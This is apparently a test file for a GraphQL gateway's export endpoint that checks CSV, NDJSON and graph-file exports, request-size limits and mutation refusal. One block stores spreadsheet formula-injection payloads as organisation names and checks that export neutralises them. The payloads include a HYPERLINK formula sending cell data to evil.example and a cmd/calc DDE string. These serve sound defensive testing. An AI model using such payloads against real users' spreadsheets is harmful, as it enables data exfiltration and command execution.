import { randomUUID } from "node:crypto";
import Graph from "graphology";
import { parse as parseGexf } from "graphology-gexf";
import { parse as parseGraphml } from "graphology-graphml";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { csvField } from "../gateway/export";
import { createPartner, openPartnerStore } from "../gateway/partners";
import { subgraphDatabaseUrl } from "../lib/platform/database";
import { startGraph, type RunningGraph } from "../scripts/graph";
import { postQuery, theGraph } from "./helpers/graph";

const graph = theGraph();
const base = graph.gatewayUrl.replace(/\/graphql$/, "");

const exportQuery = (format: string, body: unknown) =>
  fetch(`${base}/export?format=${format}`, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify(body) });

describe("an analyst taking answers away", () => {
  const query = /* GraphQL */ `
    query Lublin($search: String!) {
      clusters(filter: { search: $search }, orderBy: { field: NAME }) {
        totalCount
        nodes { id country sectors latestMemberCount { count asOf } initiators { name } }
      }
    }
  `;

  it("exports the first list of an answer as CSV, nested objects as dotted columns and lists joined", async () => {
    const response = await exportQuery("csv", { query, variables: { search: "Lubelska Medycyna" } });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const lines = (await response.text()).trimEnd().split("\r\n");
    expect(lines[0]).toBe("id,country,sectors,latestMemberCount.count,latestMemberCount.asOf,initiators.name");
    expect(lines, lines.join("\n")).toContain("lubelska-medycyna,PL,branża medyczna; branża prozdrowotna; turystyka medyczna,103,2016-12-01,Uniwersytet Medyczny w Lublinie; Urząd Miasta Lublin");
  });

  it("exports NDJSON, one flattened record a line", async () => {
    const response = await exportQuery("ndjson", { query: `{ partnershipMatrix { countryA countryB kind partnerships } }` });
    expect(response.headers.get("content-type")).toBe("application/x-ndjson; charset=utf-8");
    const records = (await response.text()).trimEnd().split("\n").map(line => JSON.parse(line));
    expect(records).toHaveLength(9);
    expect(records[0]).toEqual({ countryA: "BY", countryB: "PL", kind: "COOPERATION_AGREEMENT", partnerships: 2 });
  });

  it("quotes fields with commas and quotes", async () => {
    const response = await exportQuery("csv", { query: `{ organisations(filter: { search: "GIZ" }, first: 1) { nodes { name } } }` });
    expect((await response.text()).split("\r\n")[1]).toBe("Deutsche Gesellschaft für Internationale Zusammenarbeit (GIZ) GmbH");
    expect(csvField('say "hi", then')).toBe('"say ""hi"", then"');
  });

  it("answers the GraphQL errors, coded, for a bad query or format", async () => {
    const bad = await exportQuery("csv", { query: `{ clusters(first: 1000) { nodes { id } } }` });
    expect((await bad.json()).errors[0].extensions.code).toBe("BAD_USER_INPUT");
    const format = await exportQuery("xlsx", { query: `{ clusters { nodes { id } } }` });
    expect(format.status).toBe(400);
    expect((await format.json()).errors[0].extensions).toEqual({ code: "BAD_USER_INPUT", argument: "format", requestId: expect.any(String) });
  });
});

describe("an analyst opening the network in Gephi", () => {
  const NETWORK = /* GraphQL */ `
    query Network {
      clusters(first: 100) { nodes { id name country memberships { id roles organisation { id name country kind } } } }
      partnerships(first: 100) { nodes { id title kind countries parties { id role organisation { id name } cluster { id } } } }
    }
  `;
  const network = async (format: "gexf" | "graphml") => {
    const response = await exportQuery(format, { query: NETWORK });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe(`application/${format}+xml; charset=utf-8`);
    const text = await response.text();
    return format === "gexf" ? parseGexf(Graph, text) : parseGraphml(Graph, text);
  };
  // What the same query answers through /graphql: the nodes and edges the file must hold, no more and no fewer.
  const expected = async () => {
    const data = await graph.data(NETWORK);
    const nodes = new Set<string>();
    const edges: string[] = [];
    for (const cluster of data.clusters.nodes) {
      nodes.add(`cluster:${cluster.id}`);
      for (const m of cluster.memberships) edges.push(`membership:${m.id} organisation:${m.organisation.id} -> cluster:${cluster.id}`);
      for (const m of cluster.memberships) nodes.add(`organisation:${m.organisation.id}`);
    }
    for (const partnership of data.partnerships.nodes) {
      nodes.add(`partnership:${partnership.id}`);
      for (const party of partnership.parties) {
        const end = party.organisation ? `organisation:${party.organisation.id}` : `cluster:${party.cluster.id}`;
        nodes.add(end);
        edges.push(`party:${party.id} ${end} -> partnership:${partnership.id}`);
      }
    }
    return { nodes: [...nodes].sort(), edges: edges.sort() };
  };
  const shape = (g: Graph) => ({ nodes: g.nodes().sort(), edges: g.mapEdges((edge, _a, source, target) => `${edge} ${source} -> ${target}`).sort() });

  it.each(["gexf", "graphml"] as const)("exports clusters, organisations and partnerships as nodes, memberships and parties as edges (%s)", async format => {
    const g = await network(format);
    expect(shape(g)).toEqual(await expected());
    // The sample data: 8 clusters with 18 memberships, 9 partnerships with 18 parties.
    expect(g.filterNodes((_n, a) => a.type === "Cluster")).toHaveLength(8);
    expect(g.filterEdges((_e, a) => a.relation === "membership")).toHaveLength(18);
    expect(g.filterEdges((_e, a) => a.relation === "party")).toHaveLength(18);
    expect(g.getNodeAttributes("cluster:lubelska-medycyna")).toMatchObject({ label: "Lubelska Medycyna – Klaster Usług Medycznych i Prozdrowotnych", type: "Cluster", country: "PL" });
    expect(g.getNodeAttributes("partnership:klaster-life-science-spolka-usa")).toMatchObject({ type: "Partnership", countries: "PL; US; ES", kind: "JOINT_COMPANY" });
    const founders = g.filterInNeighbors("cluster:lubelski-klaster-biotechnologiczny", () => true);
    expect(founders).toContain("organisation:uniwersytet-medyczny-w-lublinie");
    const [urzad] = g.filterEdges("organisation:urzad-miasta-lublin", "cluster:lubelski-klaster-biotechnologiczny", () => true);
    expect(g.getEdgeAttributes(urzad)).toMatchObject({ relation: "membership", roles: "INITIATOR; FOUNDER" });
    const [expert] = g.filterEdges("cluster:klaster-obrobki-metali", "partnership:pfrr-seminaria-bialorus", () => true);
    expect(g.getEdgeAttributes(expert)).toMatchObject({ relation: "party", role: "EXPERT" });
  });

  it("refuses an answer with no cluster, organisation or partnership id, naming the query, and an unknown format", async () => {
    const noIds = await exportQuery("gexf", { query: `{ clusters(first: 3) { nodes { name } } }` });
    expect(noIds.status).toBe(400);
    expect((await noIds.json()).errors[0].extensions).toEqual({ code: "BAD_USER_INPUT", argument: "query", requestId: expect.any(String) });
    const dot = await exportQuery("dot", { query: NETWORK });
    expect((await dot.json()).errors[0].message).toContain("gexf or graphml");
  });
});

describe("an export body built to exhaust the gateway", () => {
  // 150,000 spreads of one fragment: about 750 KB, and 300,000 tokens once lexed.
  const spreads = (count: number) => ({ query: `query { ${"...F ".repeat(count)}} fragment F on Query { __typename }` });

  it("refuses the 150,000-fragment document with 413 before reading it, a smaller one over MAX_TOKENS with 400, and goes on answering", async () => {
    const huge = await exportQuery("csv", spreads(150_000));
    expect(huge.status).toBe(413);
    expect((await huge.json()).errors[0].extensions.code).toBe("BODY_TOO_LARGE");
    const many = await exportQuery("csv", spreads(15_000));
    expect(many.status).toBe(400);
    expect((await many.json()).errors[0].extensions.code).toBe("TOKEN_LIMIT_EXCEEDED");
    const after = await exportQuery("ndjson", { query: `{ clusters(first: 1) { nodes { id } } }` });
    expect(after.status).toBe(200);
  });

  it("runs the query through the gateway's own validation limits (too many aliases refused with its code), and refuses a mutation with 405", async () => {
    const aliases = Array.from({ length: 16 }, (_, i) => `a${i}: clusters { totalCount }`).join(" ");
    const refused = await exportQuery("csv", { query: `{ ${aliases} }` });
    expect(refused.status).toBe(400);
    expect((await refused.json()).errors[0].extensions.code).toBe("ALIAS_LIMIT_EXCEEDED");
    const write = await exportQuery("csv", { query: `mutation M { __typename }` });
    expect(write.status).toBe(405);
    expect((await write.json()).errors).toEqual([{ message: "Only queries can be exported, not a mutation", extensions: { code: "BAD_REQUEST", requestId: expect.any(String) } }]);
  });
});

// Writes would change what other stories count, so these run on a graph of their own, on databases of their own.
describe("names a spreadsheet would run as formulas", () => {
  const serverUrl = () => {
    const url = new URL(inject("graph").postgresUrl);
    url.pathname = "/exporthostile";
    return url.toString();
  };
  let running: RunningGraph;
  const hostile = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"];

  beforeAll(async () => {
    running = await startGraph({ databaseUrl: serverUrl(), ports: "ephemeral", sampleData: "off", logLevel: "fatal", gatewaySecret: inject("gatewaySecret") });
    const store = await openPartnerStore(subgraphDatabaseUrl(serverUrl(), "gateway"));
    const { key } = await createPartner(store.em.fork(), { name: "Formula", id: `formula-${randomUUID().slice(0, 8)}` });
    await store.close();
    const source = { title: "Rejestr", document: "rejestr.pdf", publishedOn: "2025-01-01", language: "pl" };
    for (const [i, name] of hostile.entries()) {
      const created = await postQuery(running.gatewayUrl, `mutation Create($input: CreateOrganisationInput!) { createOrganisation(input: $input) { id } }`, { input: { id: `hostile-${i}`, name, kind: "NGO", country: "PL", source } }, { authorization: `Bearer ${key}` });
      expect(created.errors).toBeUndefined();
    }
  });
  afterAll(() => running?.stop());

  it("exports each with a leading quote, quoted, so that a spreadsheet shows it as text; NDJSON keeps it as it is", async () => {
    const body = JSON.stringify({ query: `{ organisations(first: 10) { nodes { id name } } }` });
    const exported = (format: string) => fetch(`${running.gatewayUrl.replace(/\/graphql$/, "")}/export?format=${format}`, { method: "POST", headers: { "content-type": "application/json" }, body });
    const csv = await (await exported("csv")).text();
    const cells = Object.fromEntries(csv.trimEnd().split("\r\n").slice(1).map(line => [line.slice(0, line.indexOf(",")), line.slice(line.indexOf(",") + 1)]));
    expect(cells).toEqual({
      "hostile-0": `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`,
      "hostile-1": `"'+1+cmd|' /C calc'!A0"`,
      "hostile-2": `"'-2+3"`,
      "hostile-3": `"'@SUM(1+1)"`,
    });
    const records = (await (await exported("ndjson")).text()).trimEnd().split("\n").map(line => JSON.parse(line));
    expect(records.map(record => record.name).sort()).toEqual([...hostile].sort());
  });

  it("neutralises a text that starts with a tab or a carriage return too, and leaves numbers as numbers", () => {
    expect([csvField("\tTab first"), csvField("\rReturn first"), csvField(-2), csvField("-2"), csvField(3.5), csvField("Lublin")]).toEqual([
      `"'\tTab first"`,
      `"'\rReturn first"`,
      "-2",
      `"'-2"`,
      "3.5",
      "Lublin",
    ]);
  });
});

describe("the explorer", () => {
  it("serves GraphiQL with its assets inlined and the example queries to a browser", async () => {
    const response = await fetch(graph.gatewayUrl, { headers: { accept: "text/html,application/xhtml+xml,*/*;q=0.8" } });
    expect(response.status).toBe(200);
    const html = await response.text();
    expect(html).toContain("<title>Cluster Hub explorer</title>");
    expect(html).toContain("query DashboardByCountry");
    expect(html).not.toMatch(/<script[^>]+src=["']https?:/);
    expect(html).not.toMatch(/<link[^>]+href=["']https?:/);
  });

  it("leaves GraphQL over GET to the server for API clients", async () => {
    const response = await fetch(`${graph.gatewayUrl}?query=${encodeURIComponent("{ cluster(id: \"lubelska-medycyna\") { id } }")}`, {
      headers: { accept: "application/json", "apollo-require-preflight": "true" },
    });
    expect(await response.json()).toEqual({ data: { cluster: { id: "lubelska-medycyna" } } });
  });
});
